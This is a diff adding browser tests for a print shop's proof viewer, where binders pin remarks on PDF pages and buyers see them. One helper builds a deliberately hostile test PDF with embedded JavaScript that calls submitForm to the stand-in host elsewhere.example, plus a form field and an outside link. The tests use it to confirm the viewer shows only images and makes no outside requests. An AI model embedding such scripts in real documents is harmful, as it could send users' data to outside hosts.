@@ -1,0 +1,216 @@
+import { randomUUID } from 'node:crypto';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { QuoteReply } from '#features/checkout/contract.ts';
+import { API } from '#kernel/api.ts';
+import { deskApi } from '#kernel/desk-addresses.ts';
+import { proofAddress } from '#kernel/order-addresses.ts';
+import type { FileStore } from '#platform/files/file-store.ts';
+import { createFolderStore } from '#platform/files/folder-store.ts';
+import { expectAccessible } from '#test/browser/axe.ts';
+import { hydrated, openBrowser, signIn, visit } from '#test/browser/browser.ts';
+import { atTheDesk } from '#test/browser/desk.ts';
+import { post } from '#test/cart-calls.ts';
+import { shippingAddress } from '#test/charged-shop.ts';
+import { cleanBook } from '#test/pdfs/book.ts';
+import { createPeople, type People } from '#test/people.ts';
+import { FACTS, keptPrint } from '#test/print-samples.ts';
+import { type Site, startSite, TEST_SECRET } from '#test/site.ts';
+import { OrderReply } from './contract.ts';
+
+// Pages of what is printed, as the bindery looks them through and their buyer sees what was remarked on them.
+
+let site: Site;
+let files: FileStore;
+let folder: string;
+let browser: Browser;
+let people: People;
+/** A book of 120 pages with a bleed of three millimetres, whose file would run a script, follow links and ask for words. */
+let book: Buffer;
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'rare-bindings-proofs-'));
+  files = createFolderStore(folder, { secret: TEST_SECRET, origin: 'http://shop.test' });
+  [site, browser] = await Promise.all([startSite({ files }), openBrowser()]);
+  people = await createPeople(site.app, site.db);
+  book = await daring(await cleanBook(120));
+});
+afterAll(async () => {
+  await site?.close();
+  await rm(folder, { recursive: true, force: true });
+});
+
+const POINTS = 72 / 25.4;
+const BLEED = 3 * POINTS;
+
+async function daring(clean: Uint8Array): Promise<Buffer> {
+  const file = await PDFDocument.load(clean);
+  for (const page of file.getPages()) {
+    const { width, height } = page.getSize();
+    page.setMediaBox(-BLEED, -BLEED, width + 2 * BLEED, height + 2 * BLEED);
+    page.setCropBox(-BLEED, -BLEED, width + 2 * BLEED, height + 2 * BLEED);
+    page.setTrimBox(0, 0, width, height);
+  }
+  const script = 'app.alert("boo"); this.submitForm("https://elsewhere.example/");';
+  file.addJavaScript('boo', script);
+  file.getForm().createTextField('boo').addToPage(file.getPage(1), { x: 60, y: 60, width: 90, height: 20 });
+  const link = file.context.obj({
+    ...{ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 400, 600], Border: [0, 0, 0] },
+    A: { Type: 'Action', S: 'URI', URI: PDFString.of('https://elsewhere.example/') },
+  });
+  file.getPage(1).node.set(PDFName.of('Annots'), file.context.obj([file.context.register(link)]));
+  return Buffer.from(await file.save());
+}
+
+/** A print of Alice's, ordered and paid, that is printed from this file: one with scripts could not be ordered. */
+async function ordered(bytes: Buffer) {
+  const { alice } = people;
+  await shippingAddress(site.db, alice, 'US', 'NY');
+  const printJobId = await keptPrint(alice, site);
+  const added = await alice.inject(post('print-job', { printJobId }));
+  expect(added.statusCode, added.body).toBe(200);
+  const { digest } = QuoteReply.parse((await alice.inject(`${API.carts[0]}/quote`)).json()).data;
+  const placed = await alice.inject({
+    ...{ method: 'POST', url: API.orders },
+    payload: { key: randomUUID(), digest },
+  });
+  const { code, lines } = OrderReply.parse(placed.json()).data;
+  await site.db.query(`UPDATE orders SET state = 'paid', paid_at = now() WHERE code = $1`, [code]);
+  const line = lines[0]?.id ?? '';
+  const [print] = await site.db.query<{ id: string; file: string }>(
+    'SELECT u.id, u.file FROM order_prints p JOIN print_uploads u ON u.id = p.upload_id WHERE p.line_id = $1',
+    [line],
+  );
+  const { id: upload = '', file = '' } = print ?? {};
+  await files.put(file, bytes, 'application/pdf');
+  const cut = [0, 0, 148 * POINTS, 210 * POINTS];
+  const facts = { ...FACTS, hasScripts: true, pages: FACTS.pages.map((page) => ({ ...page, cut })) };
+  await site.db.query('UPDATE print_uploads SET facts = $2::text::jsonb WHERE id = $1', [
+    ...[upload, JSON.stringify(facts)],
+  ]);
+  return { code, line, upload };
+}
+
+const picture = (page: Page, number: number) =>
+  page.getByRole('img', { name: `Page ${number}`, exact: true });
+/** Its picture is there, and has ink on it. */
+async function drawn(page: Page, number: number): Promise<void> {
+  const canvas = picture(page, number).locator('canvas');
+  await page
+    .locator('[data-drawn="there"]')
+    .getByRole('img', { name: `Page ${number}`, exact: true })
+    .waitFor();
+  const ink = await canvas.evaluate((one) => {
+    const copy = document.createElement('canvas');
+    Object.assign(copy, { width: 200, height: 280 });
+    const context = copy.getContext('2d');
+    context?.drawImage(one as HTMLCanvasElement, 0, 0, 200, 280);
+    const { data = new Uint8ClampedArray() } = context?.getImageData(0, 0, 200, 280) ?? {};
+    return data.filter((value, at) => at % 4 === 0 && value < 200).length;
+  });
+  expect(ink).toBeGreaterThan(50);
+}
+
+test('a binder pins a remark on a page that is seen, by a press and by keys, and its buyer finds it there', {
+  timeout: 240_000,
+}, async () => {
+  const { code, line } = await ordered(book);
+  const { page, leave } = await atTheDesk(browser, site, 'production', {
+    path: `/desk/proofs/${code}/${line}`,
+  });
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(new URL(request.url()).host));
+  await drawn(page, 1);
+  await page.getByText('Page 1 as it is cut: 148 × 210 mm').waitFor();
+  await page.getByRole('button', { name: 'Next page' }).click();
+  await drawn(page, 2);
+  await expectAccessible(page, { where: 'pages of a print at the desk' });
+  // Of the file nothing but a picture is there.
+  const sheet = page.getByRole('application', { name: 'Choose a place on page 2' });
+  expect(await picture(page, 2).locator('a, input, iframe, object').count()).toBe(0);
+
+  const box = await sheet.boundingBox();
+  if (!box) throw new Error('The page is not seen.');
+  await page.mouse.click(box.x + box.width * 0.25, box.y + box.height * 0.1);
+  await expect.poll(() => page.getByLabel('Where', { exact: true }).inputValue()).toBe('page');
+  expect(Number(await page.getByLabel('From the left, mm').inputValue())).toBeCloseTo(37, 0);
+  expect(Number(await page.getByLabel('From the head, mm').inputValue())).toBeCloseTo(21, 0);
+  const words = page.getByRole('textbox', { name: 'Remark' });
+  expect(await words.evaluate((one) => one === document.activeElement)).toBe(true);
+  await words.fill('The heading stands too high.');
+  await page.getByRole('button', { name: 'Pin the remark' }).click();
+  await page.getByText(/^Page 2, 37 mm from the left and 21 mm from the head/).waitFor();
+
+  await sheet.focus();
+  await page.keyboard.press('PageDown');
+  await drawn(page, 3);
+  await page.keyboard.press('ArrowRight');
+  await page.keyboard.press('Shift+ArrowDown');
+  await page.keyboard.press('Enter');
+  await page.keyboard.type('This line is set too wide.');
+  await page.getByRole('button', { name: 'Pin the remark' }).click();
+  await page.getByText(/^Page 3, 75 mm from the left and 115 mm from the head/).waitFor();
+  await page.getByRole('button', { name: 'Show page 2' }).click();
+  await drawn(page, 2);
+
+  // What is typed as numbers stays where it is typed.
+  await page.getByLabel('Where', { exact: true }).selectOption('page');
+  await page.getByLabel('Page', { exact: true }).first().waitFor();
+  const x = page.getByLabel('From the left, mm');
+  await x.fill('12');
+  expect(await x.evaluate((one) => one === document.activeElement)).toBe(true);
+
+  await page.getByRole('button', { name: 'Send the proof' }).click();
+  await page.getByRole('dialog').getByRole('button', { name: 'Send the proof' }).click();
+  await page.getByText('Sent to its buyer').first().waitFor();
+  expect([...new Set(asked)]).toEqual([new URL(site.origin).host]);
+  await leave();
+
+  const alice = await visit(browser, { viewport: { width: 820, height: 1180 } });
+  await signIn(alice.context, people.alice, site.origin);
+  const loaded: string[] = [];
+  alice.page.on('request', (request) => loaded.push(request.url()));
+  await alice.page.goto(site.origin + proofAddress(code, line));
+  await hydrated(alice.page);
+  await alice.page.getByText('Page 2, 37 mm from the left and 21 mm from the head').waitFor();
+  expect(loaded.filter((url) => /pdfjs|pdf\.worker|proofs\/.*\/file/.test(url))).toEqual([]);
+  await alice.page.getByRole('button', { name: 'Show page 3' }).click();
+  await drawn(alice.page, 3);
+  await expectAccessible(alice.page, { where: 'a page with remarks, for its buyer' });
+  await alice.leave();
+});
+
+test('a file is read by its parts, by who may judge proofs alone', async () => {
+  const { code, line, upload } = await ordered(book);
+  const { page, leave } = await atTheDesk(browser, site, 'production', { width: 820, height: 1180 });
+  const url = `${site.origin}${deskApi('proofs', code, line, 'file')}`;
+  const part = await page.request.get(url, { headers: { range: 'bytes=0-99' } });
+  expect([part.status(), part.headers()['content-range'], (await part.body()).length]).toEqual([
+    ...[206, `bytes 0-99/${book.length}`, 100],
+  ]);
+  expect((await site.app.inject(deskApi('proofs', code, line, 'file'))).statusCode).toBe(401);
+  const theirs = `${API.orders}/${code}/proofs/${line}/file`;
+  expect((await people.alice.inject(theirs)).statusCode).toBe(302);
+  expect((await people.bob.inject(theirs)).statusCode).toBe(404);
+
+  // A file that goes bad, or away, leaves the numbers.
+  const [kept] = await site.db.query<{ file: string }>('SELECT file FROM print_uploads WHERE id = $1', [
+    upload,
+  ]);
+  await files.put(kept?.file ?? '', Buffer.from('%PDF-1.7\nnothing of it is there'), 'application/pdf');
+  await page.goto(`${site.origin}/desk/proofs/${code}/${line}`);
+  await page.getByRole('alert').getByText('This PDF is damaged', { exact: false }).waitFor();
+  await page.getByLabel('Where', { exact: true }).selectOption('page');
+  await page.getByLabel('From the left, mm').fill('20');
+  await page.getByRole('textbox', { name: 'Remark' }).fill('A stain.');
+  await page.getByRole('button', { name: 'Pin the remark' }).click();
+  await page.getByText(/^Page 1, 20 mm from the left and 0 mm from the head/).waitFor();
+  await files.put(kept?.file ?? '', book, 'application/pdf');
+  await page.getByRole('button', { name: 'Try again' }).click();
+  await drawn(page, 1);
+  await expectAccessible(page, { where: 'pages of a print on a tablet' });
+  await leave();
+});
